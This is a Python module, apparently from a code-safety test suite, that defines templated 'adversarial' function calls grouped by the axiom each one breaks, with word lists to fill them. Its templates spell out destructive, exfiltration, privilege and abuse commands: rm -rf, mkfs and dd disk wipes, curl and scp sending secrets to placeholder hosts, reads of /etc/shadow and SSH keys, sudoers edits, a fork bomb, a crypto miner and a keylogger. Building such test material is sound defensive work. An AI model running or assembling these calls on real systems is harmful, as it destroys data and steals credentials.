"""What adversarial programs do: one call each, with the axiom it breaks.

Arguments are source text; ``{path}``, ``{host}`` and the like are filled with words by a seed.
"""

from dataclasses import dataclass

from voltx_core.hard_core.axioms import Axiom

K1, K2, K3 = Axiom.HARM, Axiom.PRIVACY, Axiom.HONESTY
K4, K5 = Axiom.AUTONOMY, Axiom.BENEFICENCE


@dataclass(frozen=True, slots=True)
class Payload:
    """One offending call.

    Attributes:
        axiom: The axiom it breaks.
        module: Module that holds the function; ``builtins`` needs no import.
        attribute: The function.
        arguments: Source of its arguments.
        endless: It only offends when it is repeated without end.
    """

    axiom: Axiom
    module: str
    attribute: str
    arguments: str
    endless: bool = False


PAYLOADS: tuple[Payload, ...] = (
    Payload(K1, "os", "remove", "{path}"),
    Payload(K1, "os", "unlink", "{path}"),
    Payload(K1, "os", "rmdir", "{path}"),
    Payload(K1, "os", "removedirs", "{path}"),
    Payload(K1, "os", "truncate", "{path}, 0"),
    Payload(K1, "shutil", "rmtree", "{path}"),
    Payload(K1, "shutil", "rmtree", "{path}, ignore_errors=True"),
    Payload(K1, "os", "system", "'rm -rf {folder}'"),
    Payload(K1, "os", "system", "'shutdown -h now'"),
    Payload(K1, "os", "popen", "'dd if=/dev/zero of={device}'"),
    Payload(K1, "subprocess", "run", "['rm', '-rf', {path}]"),
    Payload(K1, "subprocess", "call", "'mkfs.ext4 {device}', shell=True"),
    Payload(K1, "os", "kill", "{number}, 9"),
    Payload(K1, "builtins", "open", "'{system}', 'w'"),
    Payload(K2, "builtins", "open", "'{secret}'"),
    Payload(K2, "builtins", "open", "'{secret}', 'rb'"),
    Payload(K2, "requests", "post", "'http://{host}/{word}', data={data}"),
    Payload(K2, "urllib.request", "Request", "'http://{host}/{word}', data={data}"),
    Payload(K2, "socket", "create_connection", "('{host}', {port})"),
    Payload(K2, "smtplib", "SMTP", "'{host}', {port}"),
    Payload(K2, "ftplib", "FTP", "'{host}'"),
    Payload(K2, "os", "getenv", "'{credential}'"),
    Payload(K2, "getpass", "getpass", "'{word}: '"),
    Payload(K2, "shutil", "copy", "'{secret}', {path}"),
    Payload(K2, "os", "system", "'curl -d @{secret} http://{host}/{word}'"),
    Payload(K2, "subprocess", "run", "['scp', '{secret}', '{word}@{host}:']"),
    Payload(K3, "builtins", "exec", "{data}"),
    Payload(K3, "builtins", "eval", "{data}"),
    Payload(K3, "builtins", "__import__", "{data}"),
    Payload(K3, "pickle", "loads", "{data}"),
    Payload(K3, "marshal", "loads", "{data}"),
    Payload(K3, "types", "FunctionType", "{data}, {{}}"),
    Payload(K3, "runpy", "run_path", "{path}"),
    Payload(K3, "importlib", "import_module", "{data}"),
    Payload(K4, "os", "setuid", "0"),
    Payload(K4, "os", "setgid", "0"),
    Payload(K4, "os", "chmod", "{path}, 0o4755"),
    Payload(K4, "os", "chown", "{path}, 0, 0"),
    Payload(K4, "os", "system", "'sudo {word} {folder}'"),
    Payload(K4, "subprocess", "run", "['sudo', '{word}', {path}]"),
    Payload(K4, "os", "system", "'crontab {folder}/{word}'"),
    Payload(K4, "builtins", "open", "'{startup}', 'a'"),
    Payload(K4, "os", "setsid", ""),
    Payload(K5, "os", "fork", "", endless=True),
    Payload(K5, "builtins", "bytearray", "1 << {large}"),
    Payload(K5, "os", "system", "':(){{ :|:& }};:'"),
    Payload(K5, "os", "system", "'xmrig -o stratum+tcp://{host}:{port}'"),
    Payload(K5, "pynput.keyboard", "Listener", "on_press={data}"),
    Payload(K5, "pyautogui", "screenshot", "{path}"),
    Payload(K5, "_thread", "start_new_thread", "{data}, ()", endless=True),
)

WORDS: dict[str, tuple[str, ...]] = {
    "folder": ("/home", "/srv/data", "~/Documents", "/opt/app", "/mnt/share", "/data"),
    "device": ("/dev/sda", "/dev/sdb1", "/dev/nvme0n1"),
    "system": ("/etc/hosts", "/etc/fstab", "/boot/grub/grub.cfg", "/usr/bin/env"),
    "secret": (
        "/etc/shadow",
        "/etc/passwd",
        "/root/.ssh/id_rsa",
        "/home/{word}/.aws/credentials",
        "/home/{word}/.netrc",
        "/home/{word}/.bash_history",
    ),
    "startup": ("/root/.bashrc", "/etc/sudoers", "/home/{word}/.profile", "/etc/cron.d/{word}"),
    "credential": ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "DB_PASSWORD", "API_KEY"),
    "host": ("10.0.0.7", "198.51.100.23", "203.0.113.9", "collect.example", "drop.example"),
    "port": ("80", "443", "2525", "4444", "8080"),
    "number": ("1", "1337", "4242"),
    "large": ("33", "36", "40"),
    "word": ("worker", "backup", "data", "upload", "alice", "report", "service", "items"),
}
